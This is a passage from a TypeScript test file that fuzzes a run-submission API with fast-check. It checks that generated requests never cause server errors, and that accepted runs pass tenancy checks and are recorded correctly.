    await fc.assert(
      fc.asyncProperty(request, async ({ raw, key, validate }) => {
        const safeKey = key !== undefined && /^[\x20-\x7e]*$/.test(key) ? key : undefined;
        const res = await call({
          raw,
          ...(safeKey !== undefined ? { key: safeKey } : {}),
          path: validate ? '/v1/runs/validate' : '/v1/runs',
        });
        expect(res.status, `${raw} → ${JSON.stringify(res.body)}`).toBeLessThan(500);
        if (res.status === 202) {
          accepted++;
          // The submitted body is itself a valid, allowed request, and so is what was recorded.
          const request = parseRunRequest(JSON.parse(raw));
          const runId = res.body.runId as string;
          checkTenancy(request, vision, gantryConfig, { bucket: BUCKET, runId });
          const record = await readRecord(runId);
          expect(record?.runId).toBe(runId);
          parseRunRequest(record?.spec.request);
        }
      }),
      { numRuns: 1200 },
    );
    expect(accepted).toBeGreaterThan(50);
  }, 300_000);
});
